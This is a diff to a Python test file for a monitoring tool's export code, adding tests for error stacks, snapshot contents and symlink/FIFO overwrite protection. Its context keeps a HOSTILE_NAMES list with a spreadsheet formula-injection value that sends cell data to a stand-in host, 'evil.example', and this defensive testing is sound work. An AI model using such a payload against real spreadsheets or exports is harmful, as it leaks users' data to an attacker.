@@ -22,9 +22,9 @@ from factories import BASE, agent, at, history, snapshot, two_gpus
 
 from tui_monitor import errors, export
 from tui_monitor.export import encode, outfile, ranges
-from tui_monitor.models import AgentEvent, Snapshot
+from tui_monitor.models import AgentEvent, ErrorRecord, Snapshot
 from tui_monitor.store.queries import History
-from tui_monitor.store.writer import Writer
+from tui_monitor.store.writer import Writer, resolve_error
 
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.example/?x="&A1, "click")',
@@ -107,14 +107,16 @@ def test_snapshot_json_reread_equals_the_stored_tick(db: Path, out: Path) -> Non
     path = export.write_json(out / "snap.json", doc)
     stored = History(db).at(at(7.5))
     assert stored is not None and stored.seq == 7
-    assert export.read_snapshot(path) == stored
-    assert export.read_snapshot(str(path)) == stored
+    assert export.read_snapshot(path) == moment.snapshot
+    assert export.read_snapshot(str(path)) == moment.snapshot
+    assert moment.snapshot.cost is not None and moment.snapshot.cost.today == 0.0  # no usage
+    assert moment.snapshot.model_copy(update={"cost": None}) == stored
     raw = json.loads(path.read_text())
     assert raw["format"] == "tui-monitor.snapshot" and raw["version"] == 1
     assert raw["ts"] == "2025-01-15T12:00:07.000Z"
     assert set(raw) == {
         "format", "version", "generator", "exported_at", "source", "ts", "tick", "events",
-        "alerts",
+        "alerts", "errors",
     }  # fmt: skip
     # cpu-high fired in tick 3 and cleared in tick 7: only mem-high is firing then
     assert [(a["data"]["rule"], a["data"]["subject"]) for a in raw["alerts"]] == [
@@ -166,11 +168,78 @@ def test_non_finite_numbers_become_null() -> None:
     assert doc["tick"]["lag"] is None and doc["tick"]["duration"] is None
 
 
-def test_no_tick_before_the_history_starts(db: Path, tmp_path: Path) -> None:
-    with pytest.raises(errors.ExportError, match=r"no tick recorded at or before .* starts at"):
-        export.read_moment(db, at(-100))
+def test_before_the_history_starts_the_oldest_tick(db: Path, tmp_path: Path) -> None:
+    """As the dashboard's `g` shows it (the caller says so: see when.shown_instead)."""
+    oldest = export.read_moment(db, at(1.0))
+    assert export.read_moment(db, at(-100)).snapshot == oldest.snapshot
+    empty = tmp_path / "empty.db"
+    Writer(empty).close()
+    with pytest.raises(errors.ExportError, match=r"no tick recorded .*the history is empty"):
+        export.read_moment(empty, at(0))
     with pytest.raises(errors.NoHistory, match=r"no history at .*missing\.db"):
         export.read_moment(tmp_path / "missing.db", at(0))
+
+
+# -- error stacks (issue 13 item 20) -----------------------------------------------------
+
+STACK = 'Traceback (most recent call last):\n  File "x.py", line 1\nValueError: bad\n'
+
+
+def _with_errors(path: Path) -> None:
+    """Ticks 1-4; an error reported in tick 2 (its event stored without data, as before
+    events carried the error's type and stack), another in tick 3 with no stack."""
+    snaps = [snapshot(n, [agent("coder")]) for n in (1, 2, 3, 4)]
+    reported = {
+        2: ErrorRecord(ts=at(1.5), agent="coder", error_type="ValueError", message="bad",
+                       stack=STACK),
+        3: ErrorRecord(ts=at(2.5), agent="coder", error_type="Timeout", message=""),
+    }  # fmt: skip
+    for n, e in reported.items():
+        text = f"{e.error_type}: {e.message}" if e.message else e.error_type
+        event = AgentEvent(ts=e.ts, agent="coder", kind="error", level="error", message=text)
+        snaps[n - 1] = snaps[n - 1].model_copy(update={"errors": (e,), "events": (event,)})
+    store = Writer(path)
+    try:
+        store.write_batch(snaps)
+    finally:
+        store.close()
+
+
+def test_snapshot_lists_the_errors_open_at_the_tick_with_their_stacks(tmp_path: Path) -> None:
+    db = tmp_path / "h.db"
+    _with_errors(db)
+    assert export.read_moment(db, at(1)).errors == []
+    moment = export.read_moment(db, at(3))
+    assert [(e.error_type, e.message, e.stack) for e in moment.errors] == [
+        ("ValueError", "bad", STACK),
+        ("Timeout", "", None),
+    ]
+    doc = json.loads(export.dumps(export.snapshot_document(moment.snapshot, errors=moment.errors)))
+    assert doc["errors"][0] == {
+        "ts": "2025-01-15T12:00:01.500000Z",
+        "agent": "coder",
+        "error_type": "ValueError",
+        "message": "bad",
+        "stack": STACK,
+    }
+    # Resolved at 12:00:03.5: open at tick 3, no longer at tick 4.
+    [_, oldest] = History(db).unresolved_errors("coder")  # newest first
+    resolve_error(db, oldest.id, at(3.5))
+    assert len(export.read_moment(db, at(3)).errors) == 2
+    assert [e.error_type for e in export.read_moment(db, at(4)).errors] == ["Timeout"]
+
+
+def test_error_events_carry_type_and_stack_in_events_exports(tmp_path: Path) -> None:
+    """Events stored before they carried it get it from the errors table."""
+    db = tmp_path / "h.db"
+    _with_errors(db)
+    buf = io.BytesIO()
+    export.export_events(db, buf, SINCE, UNTIL)
+    errors = [json.loads(line) for line in buf.getvalue().splitlines()]
+    assert [(e["message"], e["data"]) for e in errors if e["kind"] == "error"] == [
+        ("ValueError: bad", {"error_type": "ValueError", "stack": STACK}),
+        ("Timeout", {"error_type": "Timeout"}),
+    ]
 
 
 # -- metrics ----------------------------------------------------------------------------
@@ -533,16 +602,22 @@ def test_a_file_created_meanwhile_is_not_clobbered(how: str, out: Path) -> None:
     assert os.listdir(out) == ["a.csv"]
 
 
-def test_force_replaces_the_file_not_a_symlink_target(how: str, out: Path) -> None:
+def test_force_replaces_a_file_and_nothing_else(how: str, out: Path) -> None:
+    """Issue 13, item 15: a symlink (not even its target) or a FIFO is never replaced."""
     (out / "a.csv").write_text("old")
     outfile.write_atomic(out / "a.csv", ["new"], force=True)
     assert (out / "a.csv").read_text() == "new"
     victim = out.parent / "victim"
     victim.write_text("keep")
     (out / "link.csv").symlink_to(victim)
-    outfile.write_atomic(out / "link.csv", ["new"], force=True)
-    assert victim.read_text() == "keep" and not (out / "link.csv").is_symlink()
-    assert sorted(os.listdir(out)) == ["a.csv", "link.csv"]
+    os.mkfifo(out / "fifo.csv")
+    for name, kind in (("link.csv", "a symbolic link"), ("fifo.csv", "a FIFO")):
+        for force in (False, True):
+            with pytest.raises(errors.NotAFile, match=f"{name} is {kind}, not a regular file"):
+                outfile.write_atomic(out / name, ["new"], force=force)
+    assert victim.read_text() == "keep" and (out / "link.csv").is_symlink()
+    assert stat.S_ISFIFO((out / "fifo.csv").lstat().st_mode)
+    assert sorted(os.listdir(out)) == ["a.csv", "fifo.csv", "link.csv"]
 
 
 def test_unique_picks_the_next_free_name(how: str, out: Path) -> None:
